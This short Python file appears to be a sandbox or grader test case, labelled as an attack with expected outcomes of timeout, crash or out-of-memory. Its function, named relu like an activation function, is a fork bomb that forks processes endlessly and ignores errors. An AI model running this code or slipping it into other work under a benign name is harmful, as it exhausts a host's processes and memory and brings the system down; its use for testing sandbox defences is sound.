# Attack: every process makes two of itself, for ever
# Outcome: timed_out crashed out_of_memory
# Not in: process
import os


def relu(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
